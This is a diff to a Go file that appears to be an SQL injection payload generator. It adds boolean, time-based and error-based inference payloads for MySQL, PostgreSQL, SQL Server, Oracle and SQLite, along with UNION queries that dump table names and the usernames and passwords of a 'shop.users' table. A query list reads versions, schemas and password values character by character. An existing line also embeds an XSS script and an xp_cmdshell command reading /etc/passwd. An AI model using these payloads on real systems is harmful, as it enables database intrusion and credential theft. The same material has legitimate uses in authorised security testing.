@@ -193,12 +193,37 @@ var techniques = []technique{
 	{" AND [RANDNUM]=(SELECT [RANDNUM] FROM INFORMATION_SCHEMA.SYSTEM_USERS)", original, false},
 	{" AND [RANDNUM]=(SELECT [RANDNUM] FROM DUAL WHERE [RANDNUM]=[RANDNUM])", original, false},
 	{" AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#", original, false},
+	// Data retrieval once an injection is found: a character of a query's
+	// result compared with a number, by boolean, time or error inference,
+	// per database; UNION rows from the catalogue.
+	{" AND ORD(MID(([QUERY]),[POS],1))>[CHAR]", original, false},
+	{" AND [RANDNUM]=IF((ORD(MID(([QUERY]),[POS],1))>[CHAR]),SLEEP([SLEEP]),[RANDNUM])", original, false},
+	{" AND (SELECT [RANDNUM] FROM (SELECT(SLEEP([SLEEP]-(IF(ORD(MID(([QUERY]),[POS],1))>[CHAR],0,[SLEEP])))))[RANDSTR])", original, false},
+	{" AND ASCII(SUBSTRING((COALESCE(CAST(VERSION() AS VARCHAR(10000))::text,(CHR(32))))::text FROM [POS] FOR 1))>[CHAR]", original, false},
+	{" AND [RANDNUM]=(CASE WHEN (ASCII(SUBSTRING((COALESCE(CAST(CURRENT_USER AS VARCHAR(10000))::text,(CHR(32))))::text FROM [POS] FOR 1))>[CHAR]) THEN (SELECT [RANDNUM] FROM PG_SLEEP([SLEEP])) ELSE [RANDNUM] END)", original, false},
+	{" AND UNICODE(SUBSTRING((ISNULL(CAST(@@VERSION AS NVARCHAR(4000)),CHAR(32))),[POS],1))>[CHAR]", original, false},
+	{" AND UNICODE(SUBSTRING((SELECT TOP 1 ISNULL(CAST(name AS NVARCHAR(4000)),CHAR(32)) FROM master..sysdatabases WHERE name NOT IN (SELECT TOP [POS] name FROM master..sysdatabases ORDER BY name) ORDER BY name),[POS],1))>[CHAR]", original, false},
+	{" AND ASCII(SUBSTRC((SELECT NVL(CAST(banner AS NVARCHAR2(4000)),CHR(32)) FROM v$version WHERE ROWNUM=1),[POS],1))>[CHAR]", original, false},
+	{" AND UNICODE(SUBSTR((SELECT COALESCE(tbl_name,CHAR(32)) FROM sqlite_master WHERE type=CHAR(116,97,98,108,101) LIMIT [POS],1),[POS],1))>[CHAR]", original, false},
+	{" AND ORD(MID((SELECT IFNULL(CAST(COUNT(DISTINCT(schema_name)) AS NCHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA),[POS],1))>[CHAR]", original, false},
+	{" AND (SELECT [RANDNUM] FROM(SELECT COUNT(*),CONCAT([START],(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,54)),[STOP],FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)", original, false},
+	{" UNION ALL SELECT NULL,CONCAT([START],IFNULL(CAST(table_name AS NCHAR),0x20),[STOP]),NULL FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN (0x[HEX])", negative, true},
+	{" UNION ALL SELECT NULL,CONCAT([START],IFNULL(CAST(username AS NCHAR),0x20),0x[HEX],IFNULL(CAST(password AS NCHAR),0x20),[STOP]),NULL FROM shop.users", negative, true},
 	// UNION query and its column count.
 	{" UNION ALL SELECT [NULLS]", negative, true},
 	{" UNION ALL SELECT [NULLS]", original, true},
 	{" UNION ALL SELECT [NULLS] FROM DUAL", negative, true},
 	{" UNION SELECT [NULLS]", negative, true},
 	{" ORDER BY [COLUMN]", original, true},
+}
+
+// queries are what an inference reads, character by character (MySQL).
+var queries = []string{
+	"SELECT IFNULL(CAST(VERSION() AS NCHAR),0x20)",
+	"SELECT IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)",
+	"SELECT DISTINCT(IFNULL(CAST(schema_name AS NCHAR),0x20)) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 1,1",
+	"SELECT IFNULL(CAST(table_name AS NCHAR),0x20) FROM INFORMATION_SCHEMA.TABLES WHERE table_schema=0x73686f70 LIMIT 2,1",
+	"SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM shop.users ORDER BY id LIMIT 0,1",
 }
 
 // Payloads returns every technique in turn with every boundary it fits
@@ -365,6 +390,9 @@ func fill(r *rand.Rand, s string) string {
 		"[HEX]", hexOf(str()),
 		"[NULLS]", strings.Join(cols, ","),
 		"[COLUMN]", strconv.Itoa(1+r.IntN(12)),
+		"[QUERY]", queries[r.IntN(len(queries))],
+		"[POS]", strconv.Itoa(1+r.IntN(20)),
+		"[CHAR]", strconv.Itoa(32+r.IntN(95)),
 		"[COMMENT]", strings.ReplaceAll(comment, "[RANDSTR]", str()),
 	).Replace(s)
 }
